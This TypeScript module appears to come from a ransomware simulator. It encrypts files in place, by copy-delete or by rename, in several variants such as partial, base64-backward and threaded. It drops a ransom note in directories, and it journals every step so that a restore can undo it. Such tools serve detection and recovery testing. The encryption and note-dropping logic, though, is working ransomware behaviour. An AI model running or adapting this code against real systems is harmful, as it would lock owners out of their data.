import { createHash, randomBytes } from 'node:crypto';
import { closeSync, renameSync, unlinkSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { BASE64_PAGE, ctr } from './cipher.js';
import type { BeginRecord, JournalWriter, Variant } from './journal.js';
import { NOTE_NAME, NOTE_TEXT } from './notes.js';
import { createInside, openInside, readAll } from './safe-file.js';
import { COPY_EXTENSION, RENAME_EXTENSION } from './walk.js';

/** What every change needs: where, with which key, and the journal that announces it. */
export interface EncryptContext {
  root: string;
  key: Buffer;
  variant: Variant;
  journal: JournalWriter;
  nextId(): string;
}

/** Bytes `partial` encrypts at the start of each file. */
export const PARTIAL_BYTES = 4096;

function writeAll(fd: number, data: Uint8Array, position: number): void {
  let done = 0;
  while (done < data.length) done += writeSync(fd, data, done, data.length - done, position + done);
}

function plan(
  rel: string,
  variant: Variant,
  size: number,
): Pick<BeginRecord, 'method' | 'target' | 'length' | 'base64'> {
  switch (variant) {
    case 'partial':
      return { method: 'forward', target: rel, length: Math.min(PARTIAL_BYTES, size), base64: false };
    case 'copy-delete':
      return { method: 'copy', target: rel + COPY_EXTENSION, length: size, base64: false };
    case 'rename-first':
      return { method: 'forward', target: rel + RENAME_EXTENSION, length: size, base64: false };
    case 'base64':
      return { method: 'backward', target: rel, length: size, base64: true };
    case 'fast':
    case 'slow':
    case 'threads':
      return { method: 'forward', target: rel, length: size, base64: false };
  }
}

/** Notes in the journal that a file was left alone, and why (a link, a hard link, outside the target). */
function skip(context: EncryptContext, rel: string, reason: string): false {
  context.journal.append({ t: 'skip', path: rel, reason, at: Date.now() }, false);
  return false;
}

function writeEncrypted(fd: number, steps: Pick<BeginRecord, 'method'>, encrypted: Buffer): void {
  if (steps.method !== 'backward') return writeAll(fd, encrypted, 0);
  const text = Buffer.from(encrypted.toString('base64'), 'latin1');
  const last = Math.max(0, Math.ceil(text.length / BASE64_PAGE) - 1);
  for (let page = last; page >= 0; page--) {
    writeAll(fd, text.subarray(page * BASE64_PAGE, (page + 1) * BASE64_PAGE), page * BASE64_PAGE);
  }
}

/**
 * Encrypts one file the way the variant does, after a durable journal record that lets a restore undo
 * it from any point: in place from the start (a kill leaves an encrypted prefix), from the end in
 * 4 KiB pages (base64 grows the file, so writing forward would overwrite bytes not yet read), or into
 * a new file that is complete before the original goes. The file is read and changed through one
 * descriptor opened without following links (safe-file.ts); a file refused there is skipped, with a
 * journal note. False when skipped.
 */
export function encryptFile(context: EncryptContext, rel: string): boolean {
  const copy = context.variant === 'copy-delete';
  const opened = openInside(context.root, join(context.root, rel), !copy);
  if ('refused' in opened) return skip(context, rel, opened.refused);
  try {
    const original = readAll(opened.fd, opened.size);
    const iv = randomBytes(16);
    const steps = plan(rel, context.variant, original.length);
    const id = context.nextId();
    context.journal.append(
      {
        t: 'begin',
        id,
        variant: context.variant,
        original: rel,
        iv: iv.toString('hex'),
        size: original.length,
        sha256: createHash('sha256').update(original).digest('hex'),
        at: Date.now(),
        ...steps,
      },
      true,
    );
    const encrypted = ctr(context.key, iv, original.subarray(0, steps.length));
    const targetPath = join(context.root, steps.target);
    if (steps.method === 'copy') {
      const created = createInside(context.root, targetPath);
      if ('refused' in created) return skip(context, rel, `its copy: ${created.refused}`);
      try {
        writeAll(created.fd, encrypted, 0);
      } finally {
        closeSync(created.fd);
      }
      unlinkSync(join(context.root, rel));
    } else {
      // A rename moves whatever has the name now; the writes go to the file checked, through its descriptor.
      if (steps.target !== rel) renameSync(join(context.root, rel), targetPath);
      writeEncrypted(opened.fd, steps, encrypted);
    }
    context.journal.append({ t: 'done', id, at: Date.now() }, false);
    return true;
  } finally {
    closeSync(opened.fd);
  }
}

/** Drops the ransom note in a directory (announced first, so a restore removes it); never through a link. */
export function dropNote(context: EncryptContext, relDir: string): boolean {
  const rel = relDir === '' ? NOTE_NAME : join(relDir, NOTE_NAME);
  const path = join(context.root, rel);
  context.journal.append({ t: 'note', path: rel, at: Date.now() }, true);
  // Anything already at the note's name (a link planted there) makes the exclusive create refuse.
  const created = createInside(context.root, path);
  if ('refused' in created) return skip(context, rel, created.refused);
  try {
    writeAll(created.fd, Buffer.from(NOTE_TEXT), 0);
  } finally {
    closeSync(created.fd);
  }
  return true;
}
